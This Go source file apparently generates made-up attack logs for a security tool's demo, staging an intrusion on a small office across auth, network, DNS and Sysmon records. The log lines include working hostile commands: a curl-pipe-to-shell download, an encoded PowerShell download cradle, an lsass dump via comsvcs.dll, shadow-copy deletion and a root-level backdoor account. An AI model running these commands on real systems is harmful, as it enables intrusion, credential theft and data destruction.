package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"strings"
	"time"
)

// demoFiles writes the demo: one afternoon's attack on a small office, told by three
// sensors, ending at the given time. Addresses are from the documentation ranges.
// It is written, not recorded; `vigil up --demo` says so.
func demoFiles(end time.Time) map[string]string {
	return map[string]string{
		"auth.log":         demoAuth(end.Add(-50 * time.Minute)),
		"conn.log.json":    demoConns(end.Add(-45 * time.Minute)),
		"dns.log.json":     demoDNS(end.Add(-40 * time.Minute)),
		"sysmon.jsonl":     demoSysmon(end.Add(-30 * time.Minute)),
		"office-noise.log": demoNoise(end.Add(-time.Hour)),
	}
}

const (
	demoAttacker = "203.0.113.45"
	demoC2       = "198.51.100.23"
)

// demoAuth: a password guess from outside that succeeds, then root, then a new account.
func demoAuth(t time.Time) string {
	var b strings.Builder
	line := func(after time.Duration, prog, msg string) {
		fmt.Fprintf(&b, "%s web01 %s: %s\n", t.Add(after).UTC().Format(time.Stamp), prog, msg)
	}
	for i, user := range []string{"root", "admin", "test", "oracle", "postgres", "ubuntu", "git", "root", "admin", "deploy", "backup", "backup"} {
		verb := "Failed password for invalid user " + user
		if user == "root" || user == "backup" {
			verb = "Failed password for " + user
		}
		line(time.Duration(i)*4*time.Second, fmt.Sprintf("sshd[%d]", 4100+i), fmt.Sprintf("%s from %s port %d ssh2", verb, demoAttacker, 51000+i))
	}
	line(55*time.Second, "sshd[4120]", "Accepted password for backup from "+demoAttacker+" port 51020 ssh2")
	line(56*time.Second, "sshd[4120]", "pam_unix(sshd:session): session opened for user backup(uid=1003) by (uid=0)")
	line(2*time.Minute, "sudo", "backup : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://"+demoC2+"/i.sh | sh")
	line(3*time.Minute, "useradd[4190]", "new user: name=svc-update, UID=0, GID=0, home=/root, shell=/bin/bash")
	return b.String()
}

// demoConns: a beacon every minute with little jitter, and one large upload.
func demoConns(t time.Time) string {
	var b strings.Builder
	conn := func(after time.Duration, src, dst string, port, orig, resp int, dur float64) {
		row, _ := json.Marshal(map[string]any{
			"ts": float64(t.Add(after).UnixMicro()) / 1e6, "uid": fmt.Sprintf("CDemo%06d", int(after.Seconds())), "id.orig_h": src, "id.orig_p": 49000 + int(after.Seconds())%9000,
			"id.resp_h": dst, "id.resp_p": port, "proto": "tcp", "service": "ssl", "duration": dur, "orig_bytes": orig, "resp_bytes": resp,
			"conn_state": "SF", "local_orig": true, "local_resp": false, "history": "ShADadFf", "orig_pkts": orig/900 + 6, "orig_ip_bytes": orig + 320, "resp_pkts": resp/1200 + 5, "resp_ip_bytes": resp + 280,
		})
		b.Write(append(row, '\n'))
	}
	for i := range 30 {
		conn(time.Duration(i)*time.Minute+time.Duration(i%3)*time.Second, "10.20.0.15", demoC2, 443, 620, 1180, 0.4)
	}
	conn(31*time.Minute, "10.20.0.15", demoC2, 443, 734_003_200, 52_000, 410)
	return b.String()
}

// demoDNS: data carried out in long random labels.
func demoDNS(t time.Time) string {
	var b strings.Builder
	for i := range 40 {
		label := strings.Repeat(fmt.Sprintf("%08x", uint32(i)*2654435761), 6)
		row, _ := json.Marshal(map[string]any{
			"ts": float64(t.Add(time.Duration(i)*7*time.Second).UnixMicro()) / 1e6, "uid": fmt.Sprintf("DDemo%04d", i), "id.orig_h": "10.20.0.15", "id.orig_p": 53000 + i,
			"id.resp_h": "10.20.0.2", "id.resp_p": 53, "proto": "udp", "trans_id": 1000 + i, "query": label + ".x.demo-exfil.example",
			"qclass": 1, "qclass_name": "C_INTERNET", "qtype": 16, "qtype_name": "TXT", "rcode": 0, "rcode_name": "NOERROR", "AA": false, "TC": false, "RD": true, "RA": true, "rejected": false,
		})
		b.Write(append(row, '\n'))
	}
	return b.String()
}

// demoSysmon: a document that starts an encoded shell, credentials read, persistence.
func demoSysmon(t time.Time) string {
	var b strings.Builder
	event := func(after time.Duration, id int, fields map[string]any) {
		at := t.Add(after).UTC()
		row := map[string]any{
			"EventTime": at.Format("2006-01-02 15:04:05"), "UtcTime": at.Format("2006-01-02 15:04:05.000"), "Hostname": "ws15.office.example", "EventID": id,
			"SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational", "Severity": "INFO", "User": `OFFICE\mira`, "@timestamp": at.Format(time.RFC3339Nano),
		}
		maps.Copy(row, fields)
		line, _ := json.Marshal(row)
		b.Write(append(line, '\n'))
	}
	const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	event(0, 1, map[string]any{"Image": ps, "ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		"ParentCommandLine": `"WINWORD.EXE" /n "C:\Users\mira\Downloads\invoice.docm"`, "ProcessId": "6120", "ParentProcessId": "5544",
		"CommandLine": `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA==`})
	event(20*time.Second, 3, map[string]any{"Image": ps, "ProcessId": "6120", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.0.15", "SourcePort": "49811", "DestinationIp": demoC2, "DestinationPort": "80"})
	event(2*time.Minute, 10, map[string]any{"SourceImage": `C:\Users\mira\AppData\Local\Temp\upd.exe`, "TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x1410", "SourceProcessId": "6400", "TargetProcessId": "664", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000021A0F4D)`})
	event(150*time.Second, 1, map[string]any{"Image": `C:\Windows\System32\rundll32.exe`, "ParentImage": ps, "ProcessId": "6512", "ParentProcessId": "6120", "CommandLine": `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 664 C:\Windows\Temp\l.dmp full`})
	event(3*time.Minute, 13, map[string]any{"EventType": "SetValue", "Image": ps, "ProcessId": "6120", "TargetObject": `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpd`, "Details": `C:\Users\mira\AppData\Local\Temp\upd.exe`})
	event(4*time.Minute, 1, map[string]any{"Image": `C:\Windows\System32\vssadmin.exe`, "ParentImage": `C:\Windows\System32\cmd.exe`, "ProcessId": "6600", "ParentProcessId": "6580", "CommandLine": `vssadmin delete shadows /all /quiet`})
	return b.String()
}

// demoNoise is an ordinary hour, so that the attack is not alone on the screen.
func demoNoise(t time.Time) string {
	var b strings.Builder
	for i := range 240 {
		at := t.Add(time.Duration(i) * 15 * time.Second).UTC().Format(time.Stamp)
		switch i % 4 {
		case 0:
			fmt.Fprintf(&b, "%s web01 CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n", at, 9000+i)
		case 1:
			fmt.Fprintf(&b, "%s web01 CRON[%d]: pam_unix(cron:session): session closed for user root\n", at, 9000+i-1)
		case 2:
			fmt.Fprintf(&b, "%s web01 sshd[%d]: Accepted publickey for deploy from 10.20.0.8 port %d ssh2: ED25519 SHA256:demo\n", at, 9500+i, 50000+i)
		case 3:
			fmt.Fprintf(&b, "%s web01 systemd-logind[611]: New session %d of user deploy.\n", at, i)
		}
	}
	return b.String()
}
